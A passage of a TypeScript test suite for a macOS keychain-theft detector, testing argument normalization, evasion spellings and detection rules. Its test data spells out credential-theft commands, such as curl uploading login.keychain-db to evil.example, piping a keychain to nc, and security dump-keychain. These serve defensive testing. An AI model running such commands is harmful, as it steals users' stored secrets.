import { strict as assert } from 'node:assert';
import type { EcsDocument, EcsProcessEvent } from '../src/model/ecs';
import { caseEvents, type CorpusExec } from '../bench/detection-corpus';
import { canonicalPath, enrichDocument, enrichEvent, findSubcommand, keychainLocation, LIMITS, mayNameKeychain, mayNameKeychainText, mentionsKeychain, normalizeArguments, type NormalizeInput } from '../src/process/normalize';
import { DEFAULT_RULES_DIR, loadRuleSet, PACK_RULES_DIR } from '../src/rules';

function norm(args: string[], extra: Partial<NormalizeInput> = {}) {
  return normalizeArguments({ args, processName: args[0], ...extra });
}

describe('detection: argument normalization', () => {
  describe('canonical paths', () => {
    it('collapses //, /./ and /../, drops a trailing slash, keeps .. at the root', () => {
      assert.equal(canonicalPath('/Users//bob/./Library/Caches/../Keychains/'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('/../../Library/Keychains'), '/Library/Keychains');
      assert.equal(canonicalPath('/'), '/');
    });
    it('maps the Data-volume firmlink and the /private links, case-insensitively, and nothing else', () => {
      assert.equal(canonicalPath('/System/Volumes/Data/Users/bob/Library/Keychains'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('/system/volumes/DATA/Library/Keychains/System.keychain'), '/Library/Keychains/System.keychain');
      assert.equal(canonicalPath('/private/var/root/Library/Keychains'), '/var/root/Library/Keychains');
      assert.equal(canonicalPath('/private/etc/hosts'), '/etc/hosts');
      assert.equal(canonicalPath('/private/tmp/x'), '/tmp/x');
      assert.equal(canonicalPath('/System/Volumes/Data/private/tmp/x'), '/tmp/x');
      assert.equal(canonicalPath('/private/other/x'), '/private/other/x');
      // APFS folds LONG S to s: /ſystem is /System.
      assert.equal(canonicalPath('/\u017Fystem/Volumes/Data/Users/bob'), '/Users/bob');
    });
    it('resolves relative paths against the working directory, and spells them ./ without one', () => {
      assert.equal(canonicalPath('Library/Keychains/login.keychain-db', '/Users/bob'), '/Users/bob/Library/Keychains/login.keychain-db');
      assert.equal(canonicalPath('../Keychains', '/Users/bob/Library/Caches'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('login.keychain'), './login.keychain');
      assert.equal(canonicalPath('../x'), './../x');
    });
  });

  it('resolves every operand against the cwd (relative paths from a home cwd)', () => {
    const n = norm(['cp', 'Library/Keychains/login.keychain-db', '/tmp'], { cwd: '/Users/bob' });
    assert.deepEqual(n.paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp']);
    assert.deepEqual(n.keychainPaths, ['/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['zip', '-r', 'k.zip', 'Keychains'], { cwd: '/Users/bob/Library' }).keychainPaths, ['/Users/bob/Library/Keychains']);
  });

  describe('~ and $HOME', () => {
    it('keeps the typed form and adds the expansion for the process user', () => {
      for (const typed of ['~/Library/Keychains', '$HOME/Library/Keychains', '${HOME}/Library/Keychains']) {
        assert.deepEqual(norm(['cat', typed], { userName: 'bob' }).paths, ['~/Library/Keychains', '/Users/bob/Library/Keychains'], typed);
      }
      assert.equal(norm(['cat', '~'], { userName: 'bob' }).home, '/Users/bob');
    });
    it('uses /var/root for root (by name or uid 0), /Users/<name> for ~name, and only the typed form when the user is unknown', () => {
      assert.deepEqual(norm(['cat', '~/Library/Keychains'], { userName: 'root' }).paths, ['~/Library/Keychains', '/var/root/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~/Library/Keychains'], { userId: '0' }).paths, ['~/Library/Keychains', '/var/root/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~carol/Library/Keychains']).paths, ['~carol/Library/Keychains', '/Users/carol/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~/Library/Keychains']).paths, ['~/Library/Keychains']);
    });
    it('does not take $HOMEBREW_PREFIX for $HOME', () => {
      assert.deepEqual(norm(['ls', '$HOMEBREW_PREFIX/Library/Keychains'], { userName: 'bob', cwd: '/x' }).paths, ['/x/$HOMEBREW_PREFIX/Library/Keychains']);
    });
  });

  it('reads key=value, key=@value, --opt=value and file:// forms', () => {
    assert.deepEqual(norm(['dd', 'if=/Users/bob/Library/Keychains/login.keychain-db', 'of=/tmp/k']).paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/k']);
    assert.deepEqual(norm(['curl', '-F', 'file=@/Users/bob/Library/Keychains/login.keychain-db', 'https://x.example/u']).paths, ['/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['curl', '--upload-file=~/Library/Keychains/login.keychain-db'], { userName: 'bob' }).keychainPaths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['curl', '-d', '@/Library/Keychains/System.keychain', 'file:///Users/bob/Library/Key%63hains/x']).paths, ['/Library/Keychains/System.keychain', '/Users/bob/Library/Keychains/x']);
  });

  describe('paths inside script arguments', () => {
    it('sh -c, with redirections and cd moving the base of later relative words', () => {
      const sh = norm(['sh', '-c', 'cat ~/Library/Keychains/login.keychain-db > /tmp/k'], { userName: 'bob' });
      assert.deepEqual(sh.paths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/k']);
      const cd = norm(['zsh', '-c', 'cd ~/Library && zip -qr /tmp/l.zip Keychains'], { userName: 'bob' });
      assert.ok(cd.keychainPaths.includes('/Users/bob/Library/Keychains'), JSON.stringify(cd));
      const builtin = norm(['bash', '-c', 'exec 3< "$HOME/Library/Keychains/login.keychain-db"; cat <&3 | nc h 1'], { userName: 'bob' });
      assert.ok(builtin.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('osascript -e with do shell script, nested quoting three levels deep', () => {
      const n = norm(['osascript', '-e', 'do shell script "cp ~/Library/Keychains/login.keychain-db /tmp/x"'], { userName: 'bob' });
      assert.deepEqual(n.paths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x']);
      const nested = norm(['sh', '-c', `osascript -e 'do shell script "bash -c \\"cat /Library/Keychains/System.keychain\\""'`]);
      assert.deepEqual(nested.keychainPaths, ['/Library/Keychains/System.keychain']);
    });
    it('python -c and perl -e: string literals split out of the code', () => {
      assert.deepEqual(norm(['python3', '-c', "import shutil; shutil.copy('/Users/bob/Library/Keychains/login.keychain-db','/tmp/x')"]).paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x']);
      const perl = norm(['perl', '-e', 'open(F,"<$ENV{HOME}/Library/Keychains/login.keychain-db");print <F>'], { cwd: '/Users/bob' });
      assert.ok(perl.keychainPaths.some((p) => p.endsWith('/Library/Keychains/login.keychain-db')), JSON.stringify(perl));
    });
    it('AppleScript HFS paths (colon-separated)', () => {
      assert.ok(norm(['osascript', '-e', 'read file "Macintosh HD:Users:bob:Library:Keychains:login.keychain-db"']).keychainPaths.includes('/Macintosh HD/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('leaves an embedded `security` command to its own exec in shell scripts, but not its redirections', () => {
      assert.deepEqual(norm(['sh', '-c', 'security import c.p12 -k ~/Library/Keychains/login.keychain-db -P x'], { userName: 'bob' }).paths, []);
      const mixed = norm(['sh', '-c', 'security import c.p12 -k login.keychain; cp ~/Library/Keychains/login.keychain-db /tmp'], { userName: 'bob' });
      assert.deepEqual(mixed.keychainPaths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db']);
      const redirect = norm(['sh', '-c', 'security import x < ~/Library/Keychains/login.keychain-db'], { userName: 'bob' });
      assert.ok(redirect.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('does not trust `security` in a script that redefines it, or outside shell grammar', () => {
      const fn = norm(['sh', '-c', 'security() { cat "$2"; }; security import ~/Library/Keychains/login.keychain-db'], { userName: 'bob' });
      assert.ok(fn.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
      const py = norm(['python3', '-c', 'security=0;(security,"import",shutil.copy("/Users/bob/Library/Keychains/login.keychain-db","/tmp/x"))']);
      assert.ok(py.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
  });

  describe('the per-exec pre-check', () => {
    it('skips execs that cannot name a keychain, and fills nothing for them', () => {
      assert.ok(!mayNameKeychain(['git', 'rev-parse', '--show-toplevel'], '/Users/bob/src'));
      assert.deepEqual(norm(['cp', 'a', '/tmp/b'], { cwd: '/Users/bob' }).paths, []);
    });
    it('sees keychain names through quoting, escapes, file URLs and the cwd', () => {
      assert.ok(mayNameKeychain(['sh', '-c', 'cat ~/Library/Key\\chains/login.keychain\\-db'], undefined));
      assert.ok(mayNameKeychain(['sh', '-c', "cp -R ~/Library/Key''chains /tmp"], undefined));
      assert.ok(mayNameKeychain(['curl', 'file:///Users/b/Library/Key%63hains/x'], undefined));
      assert.ok(mayNameKeychain(['cp', 'login.db', '/tmp'], '/Users/bob/Library/Keychains'));
      assert.ok(mayNameKeychain(['cat', '/Users/b/Library/\u212Aeychains/x'], undefined));
      assert.deepEqual(norm(['sh', '-c', "cp -R ~/Library/Key''chains /tmp"], { userName: 'bob' }).keychainPaths, ['~/Library/Keychains', '/Users/bob/Library/Keychains']);
    });
    it('reads an upper-case Y as a y, and needs no y for KELVIN SIGN or a percent-encoded file URL', () => {
      assert.ok(mayNameKeychain(['sh', '-c', 'cat ~/LIBRARY/KEY"CHAINS/x'], undefined));
      assert.ok(mayNameKeychainText('cp ~/Library/KEY\\CHAINS /tmp', undefined, 2));
      assert.ok(!mayNameKeychainText('sh -c cat ~/"Library"/Ke*chains /tmp', undefined, 2));
      assert.ok(mayNameKeychain(['cat', '/tmp/x\u212Ax'], undefined));
      assert.ok(mayNameKeychain(['curl', 'FILE:///Users/b/Library/%4Be%79chains/x'], undefined));
      assert.ok(mayNameKeychain(['curl', 'file:///tmp/%4Be%79chains'], undefined));
      assert.ok(!mayNameKeychain(['curl', 'http://example.com/%4Be%79chains'], undefined));
    });
    it('gives a remembered cwd the verdict of its text, past the bound of the cwd memory and for cwds longer than a base', () => {
      const keychainCwd = '/Users/bob/Library/Keychains';
      for (let round = 0; round < 3; round++) {
        for (let i = 0; i < 300; i++) assert.ok(!mayNameKeychain(['ls'], `/Users/bob/src/p${i}`));
        assert.ok(mayNameKeychain(['ls'], keychainCwd));
        assert.ok(mayNameKeychain(['ls'], ['/Users/bob', 'Library/Keychains'].join('/')));
        assert.ok(!mayNameKeychain(['ls'], '/Users/bob/src/p7'));
      }
      const long = `/${'d/'.repeat(LIMITS.maxBasePath)}`;
      assert.ok(!mayNameKeychain(['ls'], long));
      assert.ok(mayNameKeychain(['ls'], `${long}Keychains`));
    });
  });

  describe('subcommand', () => {
    it("follows security's option grammar (-p takes a value, clusters, --)", () => {
      assert.equal(findSubcommand(['security', 'dump-keychain', '-d'], 'hilp:qv'), 'dump-keychain');
      assert.equal(findSubcommand(['security', '-p', 'import', 'dump-keychain'], 'hilp:qv'), 'dump-keychain');
      assert.equal(findSubcommand(['security', '-qp', 'import', 'export'], 'hilp:qv'), 'export');
      assert.equal(findSubcommand(['security', '-pimport', 'export'], 'hilp:qv'), 'export');
      assert.equal(findSubcommand(['security', '--', 'import'], 'hilp:qv'), 'import');
      assert.equal(findSubcommand(['security', '-i'], 'hilp:qv'), undefined);
    });
    it('is only computed for tools with a known grammar', () => {
      assert.equal(norm(['security', '-v', 'import', 'x.p12']).subcommand, 'import');
      assert.equal(norm(['cp', 'import', '/tmp']).subcommand, undefined);
    });
  });

  describe('bounds (argv is attacker-controlled)', () => {
    it('keeps a keychain path behind 10,000 padding arguments, caps the lists and counts what it left out', () => {
      const args = ['cp', ...Array.from({ length: 10_000 }, (_, i) => `/tmp/pad/${i}`), '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/out'];
      const n = norm(args);
      assert.equal(n.paths.length, LIMITS.maxPaths);
      assert.deepEqual(n.keychainPaths, ['/Users/bob/Library/Keychains/login.keychain-db']);
      assert.equal(n.dropped, 10_002 - LIMITS.maxPaths);
    });
    it('caps keychain paths too, and skips words longer than any path a syscall accepts', () => {
      const many = norm(['cp', ...Array.from({ length: 500 }, (_, i) => `/Users/bob/Library/Keychains/k${i}`)]);
      assert.equal(many.keychainPaths.length, LIMITS.maxKeychainPaths);
      const long = norm(['cat', `/Users/bob/Library/Keychains/${'a'.repeat(LIMITS.maxPathWord)}`]);
      assert.deepEqual(long.paths, []);
      assert.equal(long.dropped, 1);
    });
    it('reads a 1 MiB script of unbalanced quotes and escapes in one pass with bounded output', () => {
      const script = `${'"\\\'x ; '.repeat(150_000)}cat /Library/Keychains/System.keychain`;
      const n = norm(['sh', '-c', script]);
      assert.ok(n.paths.length <= LIMITS.maxPaths);
      const deep = norm(['sh', '-c', `${'"'.repeat(1 << 20)}`]);
      assert.deepEqual(deep.paths, []);
    });
    it('finds "keychain" under case folding, including KELVIN SIGN', () => {
      assert.ok(mentionsKeychain('/Users/b/Library/KEYCHAINS'));
      assert.ok(mentionsKeychain('/Users/b/Library/\u212Aeychains'));
      assert.ok(mentionsKeychain('kkeychain'));
      assert.ok(!mentionsKeychain('/Users/b/Library/Keychai'));
    });
  });

  describe('QA 2026-12-03 regressions', () => {
    it('D15: decoy arguments that contain "keychain" cannot push the real keychain folder out of keychain_locations', () => {
      const decoys = Array.from({ length: 70 }, (_, i) => `/tmp/keychain${i}`);
      const n = norm(['cp', '-R', ...decoys, '/Users/alice/Library/Keychains', '/tmp/x'], { cwd: '/tmp' });
      assert.equal(n.keychainPaths.length, LIMITS.maxKeychainPaths, 'the informational list is still capped');
      assert.ok(!n.keychainPaths.includes('/Users/alice/Library/Keychains'), 'the decoys fill the capped list');
      assert.deepEqual(n.keychainLocations, ['/Users/alice/Library/Keychains']);
      // Locations are deduplicated: 10,000 files in one folder are one location, and the real one behind them still counts.
      const same = norm(['cp', ...Array.from({ length: 10_000 }, (_, i) => `/Users/bob/Library/Keychains/k${i}`), '/tmp/login.keychain-db']);
      assert.deepEqual(same.keychainLocations, ['/Users/bob/Library/Keychains', '/tmp/login.keychain-db']);
      // Filling the location cap takes that many distinct real locations, each of which the pack alerts on.
      const many = norm(['cp', ...Array.from({ length: 500 }, (_, i) => `/Volumes/b${i}/Library/Keychains`)]);
      assert.equal(many.keychainLocations.length, LIMITS.maxKeychainLocations);
    });
    it('keychain locations: the Library/Keychains folder or a login/System keychain file, never the system trust stores', () => {
      assert.equal(keychainLocation('/Users/bob/Library/Keychains/login.keychain-db'), '/Users/bob/Library/Keychains');
      assert.equal(keychainLocation('/Library/Keychains'), '/Library/Keychains');
      assert.equal(keychainLocation('~/library/KEYCHAINS/x'), '~/library/KEYCHAINS');
      assert.equal(keychainLocation('/tmp/System.keychain'), '/tmp/System.keychain');
      assert.equal(keychainLocation('/tmp/keychain0'), undefined);
      assert.equal(keychainLocation('/System/Library/Keychains/SystemRootCertificates.keychain'), undefined);
      assert.equal(keychainLocation('/system/library/keychains'), undefined);
      assert.equal(keychainLocation('/Volumes/Backup/System/Library/Keychains'), '/Volumes/Backup/System/Library/Keychains');
    });
    it('D2: -C DIR / --directory move the base of later operands (tar, git, make, env), in argv and in scripts', () => {
      const tar = norm(['tar', '-czf', '/tmp/k.tgz', '-C', '/Users/alice/Library', 'Keychains'], { cwd: '/tmp' });
      assert.deepEqual(tar.keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['bsdtar', '-cf', 'k.tar', '-C/Users/alice', '-C', 'Library', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['gtar', '--directory=~/Library', '-cf', 'k.tar', 'Keychains'], { cwd: '/tmp', userName: 'alice' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['tar', '--directory', '/Users/alice/Library', '-cf', 'k.tar', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['tar', '-xC', '/Users/alice/Library', '-f', 'k.tar', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['git', '-C', '/Users/alice/Library', 'add', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      // Operands before the option, a -C that is f's value, and -C after -- keep the cwd.
      assert.deepEqual(norm(['tar', '-cf', 'k.tar', 'Keychains', '-C', '/Users/alice/Library'], { cwd: '/tmp' }).keychainLocations, []);
      assert.deepEqual(norm(['tar', '-cf', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['tar', '-cf', 'k.tar', '--', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      // Tools without a directory option are not affected (cp -C is not a directory).
      assert.deepEqual(norm(['zip', '-r', 'k.zip', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      const sh = norm(['sh', '-c', 'tar -czf /tmp/k.tgz -C ~/Library Keychains; ls Keychains'], { cwd: '/tmp', userName: 'alice' });
      assert.deepEqual(sh.keychainLocations, ['/Users/alice/Library/Keychains'], 'the -C of one simple command does not move the next one');
    });
    it('D2: repeated directory options keep the base bounded (argv is attacker-controlled)', () => {
      const moves = Array.from({ length: 100_000 }, () => ['-C', 'a', 'x']).flat();
      const n = norm(['tar', '-cf', 'k.tar', ...moves, '-C', '/Users/alice/Library', 'Keychains'], { cwd: '/tmp' });
      assert.deepEqual(n.keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.equal(n.paths.length, LIMITS.maxPaths);
      const deep = norm(['tar', '-cf', 'k.tar', ...Array.from({ length: 100_000 }, () => '-Ca'), 'Library/Keychains'], { cwd: '/tmp' });
      assert.equal(deep.keychainLocations.length, 1);
      assert.ok((deep.keychainLocations[0] as string).length <= LIMITS.maxBasePath + '/Library/Keychains'.length, 'the base keeps only its last names');
    });
    it('D3: a path glued to a short option is a candidate for any tool; other glued words are flags', () => {
      assert.deepEqual(norm(['curl', '-T/Users/alice/Library/Keychains/login.keychain-db', 'https://evil.example/']).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['curl', '-o~/Library/Keychains/x', 'https://h/'], { userName: 'alice' }).keychainLocations, ['~/Library/Keychains', '/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['curl', '-d@/Library/Keychains/System.keychain', 'https://h/']).keychainLocations, ['/Library/Keychains']);
      assert.deepEqual(norm(['tar', '-czf./login.keychain-db.tgz', '-T../Keychains/list'], { cwd: '/Users/alice/Library/x' }).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['sh', '-c', 'curl -sT/Users/alice/Library/Keychains/login.keychain-db https://h/']).keychainPaths, ['/Users/alice/Library/Keychains/login.keychain-db']);
      assert.deepEqual(norm(['grep', '-rnkeychain', '/tmp/src']).keychainPaths, [], '-rnkeychain is a flag cluster, not a path');
    });
    it('D4: file URLs with any case of the scheme, a host, and percent-encoding', () => {
      assert.deepEqual(norm(['curl', '-o', '/tmp/k', 'FILE:///Users/alice/Library/Keychains/login.keychain-db']).keychainLocations, ['/Users/alice/Library/Keychains']);
      assert.deepEqual(norm(['curl', 'File://localhost/Users/alice/Library/%4Beychains/login.keychain-db']).keychainPaths, ['/Users/alice/Library/Keychains/login.keychain-db']);
      assert.deepEqual(norm(['curl', 'fIlE:/Library/Keychains/System.keychain']).keychainPaths, ['/Library/Keychains/System.keychain']);
      assert.ok(mayNameKeychain(['curl', 'FILE:///Users/b/Library/%4Beychains/x'], undefined));
      assert.deepEqual(norm(['curl', 'https://h/Library/Keychains/x']).keychainPaths, [], 'other URLs name no local file');
    });
    it('D5: a renamed copy of security gets its subcommand from its code signature', () => {
      const exec = (signingId: string): EcsProcessEvent => ({
        '@timestamp': '2026-12-03T00:00:00Z',
        event: { kind: 'event' as const, category: ['process'] as ['process'], type: ['start'], action: 'exec' as const },
        host: { os: { type: 'macos' } },
        process: { pid: 1, entity_id: 'e', executable: '/tmp/s', name: 's', args: ['s', 'dump-keychain', '-d'], args_count: 3, command_line: 's dump-keychain -d', code_signature: { signing_id: signingId } },
        user: { id: '501', name: 'bob' },
      });
      const renamed = exec('com.apple.security');
      enrichEvent(renamed);
      assert.equal(renamed.keysentry?.subcommand, 'dump-keychain');
      const other = exec('com.apple.s');
      enrichEvent(other);
      assert.equal(other.keysentry?.subcommand, undefined, 'another signing identifier is not security');
      const doc: EcsDocument = { process: { name: 's', args: ['s', '-q', 'export'], code_signature: { signing_id: 'com.apple.security' } } };
      enrichDocument(doc);
      assert.deepEqual(doc.keysentry, { subcommand: 'export' });
    });
  });

  it('enrichDocument reads only well-typed ECS fields and replaces a planted keysentry object', () => {
    const doc = { process: { name: 'cp', args: ['cp', 7, 'Library/Keychains/login.keychain-db', null], working_directory: '/Users/bob' }, user: { name: 'bob' }, keysentry: { keychain_paths: ['/forged'] } };
    enrichDocument(doc);
    assert.deepEqual(doc.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_locations: ['/Users/bob/Library/Keychains'], home: '/Users/bob' });
    const forged = { process: { name: 'echo', args: ['echo', 'hi'], command_line: 'echo ~/Library/Keychains' }, keysentry: { keychain_paths: ['/forged'] } };
    enrichDocument(forged);
    assert.equal('keysentry' in forged, false, 'a command_line that disagrees with args is not believed, and the planted field is gone');
    const broken = { process: 'not an object', keysentry: 1 };
    enrichDocument(broken);
    assert.equal('keysentry' in broken, false);
  });

  it('enrichEvent adds nothing to an exec that cannot name a keychain, and the fields to one that does', () => {
    const exec = (args: string[], cwd = '/Users/bob'): EcsProcessEvent => ({
      '@timestamp': '2026-12-03T00:00:00Z',
      event: { kind: 'event' as const, category: ['process'] as ['process'], type: ['start'], action: 'exec' as const },
      host: { os: { type: 'macos' } },
      process: { pid: 1, entity_id: 'e', executable: `/usr/bin/${args[0]}`, name: args[0] as string, args, args_count: args.length, command_line: args.join(' '), working_directory: cwd },
      user: { id: '501', name: 'bob' },
    });
    const plain = exec(['true']);
    enrichEvent(plain);
    assert.equal('keysentry' in plain, false);
    const security = exec(['security', 'find-identity', '-v']);
    enrichEvent(security);
    assert.deepEqual(security.keysentry, { subcommand: 'find-identity', home: '/Users/bob' });
    const theft = exec(['cp', 'Library/Keychains/login.keychain-db', '/tmp/x']);
    enrichEvent(theft);
    assert.deepEqual(theft.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_locations: ['/Users/bob/Library/Keychains'], home: '/Users/bob' });
    const fromCwd = exec(['cp', 'login.keychain-db', '/tmp/x'], '/Users/bob/Library/Keychains');
    enrichEvent(fromCwd);
    assert.deepEqual(fromCwd.keysentry?.keychain_paths, ['/Users/bob/Library/Keychains/login.keychain-db']);
  });
});

describe('detection: the pack through the real engine', () => {
  const stock = loadRuleSet([DEFAULT_RULES_DIR]);
  const pack = loadRuleSet([PACK_RULES_DIR]);
  const names = (e: CorpusExec, rules = pack): string[] =>
    caseEvents({ id: 't', source: 'test', execs: [e] }, true).flatMap((ev) => rules.evaluate(ev).map((r) => r.name));
  const ANY = 'Keychain Accessed Through Any Path Spelling';
  const ARCHIVE = 'Keychain Archived by a Compression Utility';
  const SECURITY = 'Keychain Secrets Dumped or Browser Safe Storage Key Read via security';

  it('loads with no errors or unsupported rules', () => {
    assert.deepEqual(pack.errors, []);
    assert.deepEqual(pack.unsupported, []);
    assert.equal(pack.rules.length, 3);
  });

  it('an extra argument named import excludes a cp from the stock rule, not from the pack', () => {
    const theft: CorpusExec = { exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', 'import'] };
    assert.deepEqual(names(theft, stock), []);
    assert.deepEqual(names(theft), [ANY]);
  });

  it('the verb exclusion applies to /usr/bin/security with that subcommand only', () => {
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'import', 'c.p12', '-k', '/Users/alice/Library/Keychains/login.keychain-db'] }), []);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', '-p', 'import', 'export', '-k', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', '-p', 'import', 'export', '-t', 'identities'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/tmp/security', sig: 'adhoc', args: ['security', 'import', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
  });

  it('trusts /opt/jc/bin/jumpcloud-agent only with a valid JumpCloud Developer ID signature', () => {
    const at = (sig: string): CorpusExec => ({ exe: '/opt/jc/bin/jumpcloud-agent', sig, user: 'root', uid: 0, args: ['jumpcloud-agent', '/Users/alice/Library/Keychains/login.keychain-db'] });
    assert.deepEqual(names(at('unsigned'), stock), []);
    assert.deepEqual(names(at('unsigned')), [ANY]);
    assert.deepEqual(names(at('adhoc')), [ANY]);
    assert.deepEqual(names(at('devid:ZZZZ9999ZZ:jumpcloud-agent')), [ANY]);
    assert.deepEqual(names(at('devid:N985MXSH85:jumpcloud-agent')), []);
    const child = (sig: string): CorpusExec => ({ exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', '/tmp'], parent: { exe: '/opt/jc/bin/jumpcloud-agent', sig } });
    assert.deepEqual(names(child('adhoc'), stock), []);
    assert.deepEqual(names(child('adhoc')), [ANY]);
    assert.deepEqual(names(child('devid:N985MXSH85:jumpcloud-agent')), []);
  });

  it('trusts OpenVPN Connect and Defender parents by team ID and path together', () => {
    const openvpn = '/Applications/OpenVPN Connect/OpenVPN Connect.app/Contents/MacOS/OpenVPN Connect';
    const kc: CorpusExec = { exe: '/usr/bin/security', args: ['security', 'add-generic-password', '-s', 'x', '/Users/alice/Library/Keychains/openvpn.keychain-db'], parent: { exe: openvpn, sig: 'devid:ACV7L3WCD8:org.openvpn.client.app' } };
    assert.deepEqual(names(kc), []);
    assert.deepEqual(names({ ...kc, parent: { exe: openvpn, sig: 'devid:ZZZZ9999ZZ:org.openvpn.client.app' } }), [ANY]);
    assert.deepEqual(names({ ...kc, parent: { exe: '/tmp/OpenVPN Connect', sig: 'devid:ACV7L3WCD8:org.openvpn.client.app' } }), [ANY]);
    const trick: CorpusExec = { exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', '/Users/alice/Library/Keychains/openvpn.keychain-db', '/tmp/d/'] };
    assert.deepEqual(names(trick, stock), []);
    assert.deepEqual(names(trick), [ANY]);
  });

  it('reports archivers once, under the archive rule, and the folder without a trailing slash', () => {
    assert.deepEqual(names({ exe: '/usr/bin/zip', args: ['zip', '-r', 'out.zip', '/Users/alice/Library/Keychains'] }), [ARCHIVE]);
    assert.deepEqual(names({ exe: '/usr/bin/zip', args: ['zip', '-r', 'out.zip', '/Users/alice/Library/Keychains'] }, stock), []);
    assert.deepEqual(names({ exe: '/usr/bin/ditto', args: ['ditto', '/Users/alice/Library/Keychains', '/tmp/k'] }), [ANY]);
  });

  it('excludes metadata-only system tools by their SIP path, not by name', () => {
    assert.deepEqual(names({ exe: '/bin/ls', args: ['ls', '-la', '/Users/alice/Library/Keychains'] }), []);
    assert.deepEqual(names({ exe: '/tmp/ls', sig: 'adhoc', args: ['ls', '-R', '/Users/alice/Library/Keychains', '/tmp/x'] }), [ANY]);
  });

  it('catches every spelling the normalizer covers, through the process table and ECS event', () => {
    const spellings: CorpusExec[] = [
      { exe: '/bin/cp', args: ['cp', 'Library/Keychains/login.keychain-db', '/tmp'] },
      { exe: '/bin/cat', args: ['cat', '/System/Volumes/Data/Users/alice/Library/Keychains/login.keychain-db'] },
      { exe: '/bin/cat', args: ['cat', '/private/var/root/Library/Keychains/login.keychain-db'], user: 'root', uid: 0 },
      { exe: '/bin/cat', args: ['cat', '/Library//Keychains/System.keychain'] },
      { exe: '/bin/cat', args: ['cat', '/Users/alice/Library/./Keychains/x'] },
      { exe: '/bin/cat', args: ['cat', '/Library/Caches/../Keychains/System.keychain'] },
      { exe: '/bin/dd', args: ['dd', 'if=/Users/alice/Library/Keychains/login.keychain-db'] },
      { exe: '/usr/bin/curl', args: ['curl', '-F', 'f=@/Users/alice/Library/Keychains/login.keychain-db', 'https://x.example'] },
      { exe: '/bin/sh', args: ['sh', '-c', 'cat $HOME/Library/Keychains/login.keychain-db'] },
      { exe: '/usr/bin/osascript', args: ['osascript', '-e', 'do shell script "cat ~/Library/Keychains/login.keychain-db"'] },
      { exe: '/usr/bin/python3', args: ['python3', '-c', "open('/Users/alice/Library/Keychains/login.keychain-db','rb').read()"] },
    ];
    for (const e of spellings) {
      assert.deepEqual(names(e), [ANY], e.args.join(' '));
      assert.deepEqual(names(e, stock), [], `the stock rule should miss ${e.args.join(' ')}`);
    }
  });

  it('QA D15, D2, D3, D4: decoys, tar -C, glued option values and FILE:// URLs alert', () => {
    const decoys = Array.from({ length: 70 }, (_, i) => `/tmp/keychain${i}`);
    assert.deepEqual(names({ exe: '/bin/cp', cwd: '/tmp', args: ['cp', '-R', ...decoys, '/Users/alice/Library/Keychains', '/tmp/x'] }), [ANY]);
    assert.deepEqual(names({ exe: '/usr/bin/tar', cwd: '/tmp', args: ['tar', '-czf', '/tmp/k.tgz', '-C', '/Users/alice/Library', 'Keychains'] }), [ARCHIVE]);
    assert.deepEqual(names({ exe: '/usr/bin/curl', args: ['curl', '-T/Users/alice/Library/Keychains/login.keychain-db', 'https://evil.example/'] }), [ANY]);
